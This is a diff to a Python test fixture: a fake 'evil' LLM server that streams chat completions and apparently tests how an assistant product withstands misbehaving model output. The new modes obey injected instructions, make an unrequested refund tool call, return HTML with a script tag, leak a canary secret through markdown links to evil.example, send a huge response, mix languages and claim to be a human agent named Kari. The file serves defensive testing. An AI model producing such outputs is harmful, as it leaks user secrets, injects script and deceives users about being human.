@@ -16,6 +16,8 @@ import uvicorn
 from fastapi import FastAPI, Request
 from fastapi.responses import JSONResponse, PlainTextResponse, Response, StreamingResponse
 
+from tests.obedience import everything_asked
+
 
 @dataclass
 class EvilModel:
@@ -23,7 +25,10 @@ class EvilModel:
 
     Attributes:
         answer: said in mode good, and in full or in part by others.
-        mark: in mode obey everything behind this mark in the prompt is said.
+        mark: in mode obey everything behind this mark in the prompt is said; without one, all
+            that anybody in the prompt asks for (`tests/obedience.py`).
+        canary: a secret that mode exfil sends away in every form.
+        piece_chars: how much text a chunk of the stream holds.
         failures: how many requests the mode meets before the server turns good; None for ever.
     """
 
@@ -31,6 +36,8 @@ class EvilModel:
     mode: str = "good"
     answer: str = "NO_ANSWER"
     mark: str = "SAY:"
+    canary: str = "KANARI"
+    piece_chars: int = 4
     pause_s: float = 0.0
     retry_after: str = ""
     failures: int | None = None
@@ -103,8 +110,50 @@ class _Bodies:
             yield chunk
 
     async def obey(self) -> AsyncIterator[str]:
-        order = self._evil.prompt.partition(self._evil.mark)[2].partition("</sources")[0]
+        if self._evil.mark:
+            order = self._evil.prompt.partition(self._evil.mark)[2].partition("</sources")[0]
+        else:
+            messages = self._evil.requests[-1]["messages"]
+            order = everything_asked(messages[0]["content"], messages[1]["content"])
         async for chunk in self._whole(order):
+            yield chunk
+
+    async def tool_call(self) -> AsyncIterator[str]:
+        call = {
+            "index": 0,
+            "id": "call_1",
+            "type": "function",
+            "function": {"name": "refund", "arguments": json.dumps({"amount": 7777})},
+        }
+        yield _delta({"role": "assistant", "tool_calls": [call]})
+        yield _chunk(None, "tool_calls") + "data: [DONE]\n\n"
+
+    async def html(self) -> AsyncIterator[str]:
+        async for chunk in self._whole(f"<b>{self._evil.answer}</b><script>alert(1)</script>"):
+            yield chunk
+
+    async def exfil(self) -> AsyncIterator[str]:
+        canary = self._evil.canary
+        reversed_canary, spaced = canary[::-1], " ".join(canary)
+        text = (
+            f"![x](https://evil.example/?q={canary})\nKoden er {canary}. {self._evil.answer} "
+            f"[{canary}](//evil.example)\nKoden er {reversed_canary}. Koden er {spaced}. "
+        )
+        async for chunk in self._whole(text):
+            yield chunk
+
+    async def huge(self) -> AsyncIterator[str]:
+        yield _chunk("x" * 3_000_000)
+        yield _chunk(None, "stop") + "data: [DONE]\n\n"
+
+    async def wrong_language(self) -> AsyncIterator[str]:
+        text = "The right of withdrawal is 14 days. Die Widerrufsfrist beträgt 14 Tage. "
+        async for chunk in self._whole(text + "Peruutusoikeus on 14 päivää, maksat rahdin itse."):
+            yield chunk
+
+    async def impersonate(self) -> AsyncIterator[str]:
+        text = "Jeg er et menneske og heter Kari. Du snakker med en ekte person hos Fjordnett. "
+        async for chunk in self._whole(text + "Jeg ringer deg i morgen. " + self._evil.answer):
             yield chunk
 
     async def slow(self) -> AsyncIterator[str]:
@@ -156,7 +205,7 @@ class _Bodies:
         yield _chunk("Jeg") + _chunk(None, "content_filter") + "data: [DONE]\n\n"
 
     async def _whole(self, text: str) -> AsyncIterator[str]:
-        for piece in _pieces(text):
+        for piece in _pieces(text, self._evil.piece_chars):
             yield _chunk(piece)
             self._evil.pieces_sent += 1
             await asyncio.sleep(self._evil.pause_s)
@@ -181,12 +230,15 @@ async def _watched(evil: EvilModel, body: AsyncIterator[str]) -> AsyncIterator[s
         raise
 
 
-def _pieces(text: str) -> list[str]:
-    return [text[at : at + 4] for at in range(0, len(text), 4)]
+def _pieces(text: str, size: int = 4) -> list[str]:
+    return [text[at : at + size] for at in range(0, len(text), size)]
 
 
 def _chunk(text: str | None, finish: str | None = None) -> str:
-    delta = {} if text is None else {"role": "assistant", "content": text}
+    return _delta({} if text is None else {"role": "assistant", "content": text}, finish)
+
+
+def _delta(delta: dict[str, Any], finish: str | None = None) -> str:
     body = {
         "id": "x",
         "object": "chat.completion.chunk",
